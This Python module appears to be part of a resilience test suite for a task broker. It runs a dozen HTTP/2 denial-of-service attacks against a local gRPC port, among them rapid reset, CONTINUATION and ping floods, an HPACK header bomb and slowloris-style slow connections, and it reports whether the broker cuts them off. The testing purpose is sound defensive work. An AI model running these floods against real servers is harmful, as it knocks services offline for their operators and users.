# SPDX-License-Identifier: Apache-2.0
"""Attacks on the gRPC port, as a program of its own: `python -m clients.attack NAME PORT SECONDS`.

A flood connects again and again for SECONDS, and until the broker has ended one of its connections; a
slow attack opens its connections once and keeps them until the broker has ended them all, or for
SECONDS. Prints "ready" once it has begun and at last one line of JSON:

    connections  opened
    ended        of those, closed by the broker (or refused by it)
    streams      answered or refused by the broker, of a slow attack
"""

import json
import os
import selectors
import socket
import struct
import sys
import time

from clients.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    START,
    WINDOW_UPDATE,
    frame,
    headers,
    literal,
)

PATH = b"/sentry_protos.taskbroker.v1.ConsumerService/GetTask"
STRANGER = b"\0\0\0\0\x0a\x12\x08stranger"  # asks for an application that nobody uses
CANCEL, OVERFLOW = b"\0\0\0\x08", b"\x7f\xff\xff\xff"


def request_headers(stream, extra=b"", flags=END_HEADERS):
    return frame(HEADERS, flags, stream, headers(PATH, extra=extra))


def per_stream(make, count=200000, step=100):
    """Chunks of make(stream) for ever more streams."""
    for first in range(1, 2 * count, 2 * step):
        yield b"".join(make(stream) for stream in range(first, first + 2 * step, 2))


def again(chunk, start=b""):
    yield start
    while True:
        yield chunk


def rapid_reset():
    return per_stream(lambda s: request_headers(s) + frame(RST_STREAM, 0, s, CANCEL))


def made_you_reset():
    return per_stream(lambda s: request_headers(s) + frame(WINDOW_UPDATE, 0, s, OVERFLOW))


def too_many_streams():
    return per_stream(request_headers)


def continuations():
    block = b"".join(literal(b"x%d" % i, b"y" * 100) for i in range(100))
    return again(frame(CONTINUATION, 0, 1, block) * 10, request_headers(1, flags=0))


def empty_continuations():
    return again(frame(CONTINUATION, 0, 1) * 1000, request_headers(1, flags=0))


def pings():
    return again(frame(PING, 0, 0, b"x" * 8) * 1000)


def settings():
    return again(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100) * 4) * 1000)


def empty_data():
    return again(frame(DATA, 0, 1) * 1000, request_headers(1))


def many_headers():
    """Each block is a little above the limit, which is answered; so it goes on for ever."""
    block = b"".join(literal(b"x%d" % i, b"y" * 100) for i in range(105))
    return per_stream(lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, headers(PATH, extra=block)),
                      step=10)


def header_bomb():
    """A byte each for a header of 4 KB that the table of HPACK knows."""
    entry = b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000
    return per_stream(lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s,
                                      headers(PATH, extra=entry + b"\xbe" * 11000)), step=1)


# name: (chunks to send, whether what comes is read)
FLOODS = {
    "rapid reset": (rapid_reset, True),
    "made you reset": (made_you_reset, True),
    "too many streams": (too_many_streams, True),
    "continuations": (continuations, True),
    "empty continuations": (empty_continuations, True),
    "pings": (pings, True),
    "pings without reading": (pings, False),
    "settings": (settings, True),
    "settings without reading": (settings, False),
    "empty data": (empty_data, True),
    "many headers": (many_headers, True),
    "header bomb": (header_bomb, True),
}


# Its requests are refused one by one, its connection may stay.
ENDLESS = {"many headers"}


def connect(port):
    connection = socket.create_connection(("127.0.0.1", port), timeout=5)
    connection.setblocking(False)
    return connection


def read_all(connection):
    """What has come; None at the end."""
    got = b""
    try:
        while more := connection.recv(65536):
            got += more
        return None
    except BlockingIOError:
        return got


def flood_once(port, chunks, does_read, end):
    """True when the broker ended it."""
    with connect(port) as connection, selectors.DefaultSelector() as selector:
        selector.register(connection, selectors.EVENT_WRITE | (does_read and selectors.EVENT_READ))
        rest = START + next(chunks)
        try:
            while time.monotonic() < end:
                for _, events in selector.select(0.05):
                    if events & selectors.EVENT_READ and read_all(connection) is None:
                        return True
                    if events & selectors.EVENT_WRITE:
                        rest = rest[connection.send(rest):] or next(chunks)
        except (ConnectionError, StopIteration):
            return True
    return False


def flood(name, port, seconds):
    make, does_read = FLOODS[name]
    result = {"connections": 0, "ended": 0}
    end = time.monotonic() + seconds
    last = end if name in ENDLESS else end + 20
    print("ready", flush=True)
    while time.monotonic() < end or (result["ended"] == 0 and time.monotonic() < last):
        result["connections"] += 1
        result["ended"] += flood_once(port, make(), does_read, last if result["ended"] == 0 else end)
    return result


# --- slow ones

SLOW_CONNECTIONS = 200
BODY_START = b"\0\0\x3f\xff\xff" + b"x" * 5000  # of almost 4 MiB


def slow_body(stream):
    return request_headers(stream) + frame(DATA, 0, stream, BODY_START)


# name: (connections, what each says at first, what each says every second)
SLOW = {
    "slow bodies": (SLOW_CONNECTIONS, START + slow_body(1) + slow_body(3),
                    frame(DATA, 0, 1, b"x") + frame(DATA, 0, 3, b"x")),
    "no window": (4, PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + b"".join(
        request_headers(s) + frame(DATA, END_STREAM, s, b"\0\0\0\0\x07\x12\x05stall") for s in (1, 3)),
        frame(PING, 0, 0, b"x" * 8)),
    "half a preface": (SLOW_CONNECTIONS, PREFACE[:10], b""),
    "half a handshake": (2 * SLOW_CONNECTIONS, bytes.fromhex("160301020001"), b""),
}


class SlowConnection:
    def __init__(self, port, first):
        self.socket = connect(port)
        self.ended = False
        self.streams = set()
        self._in = b""
        self.say(first)

    def say(self, text):
        try:
            self.socket.send(text)
        except BlockingIOError:
            pass
        except ConnectionError:
            self.ended = True

    def look(self):
        try:
            got = read_all(self.socket)
        except ConnectionError:
            got = None
        if got is None:
            self.ended = True
            return
        self._in += got
        while len(self._in) >= 9 and len(self._in) >= 9 + int.from_bytes(self._in[:3], "big"):
            kind, flags, stream = self._in[3], self._in[4], int.from_bytes(self._in[5:9], "big")
            if kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
                self.streams.add(stream)
            self._in = self._in[9 + int.from_bytes(self._in[:3], "big"):]


def slow(name, port, seconds):
    count, first, more = SLOW[name]
    end = time.monotonic() + seconds
    all_of_them = [SlowConnection(port, first) for _ in range(count)]
    print("ready", flush=True)
    said = time.monotonic()
    while time.monotonic() < end:
        for connection in all_of_them:
            if not connection.ended:
                connection.look()
        if all(c.ended or c.streams >= {1, 3} for c in all_of_them):
            break
        if time.monotonic() - said >= 1:
            said = time.monotonic()
            for connection in all_of_them:
                if not connection.ended and more:
                    connection.say(more)
        time.sleep(0.05)
    return {"connections": count, "ended": sum(c.ended for c in all_of_them),
            "streams": sum(len(c.streams) for c in all_of_them)}


if __name__ == "__main__":
    # Attackers have machines of their own: this one's processors are first for the broker and its clients.
    os.nice(10)
    attack = flood if sys.argv[1] in FLOODS else slow
    print(json.dumps(attack(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))))
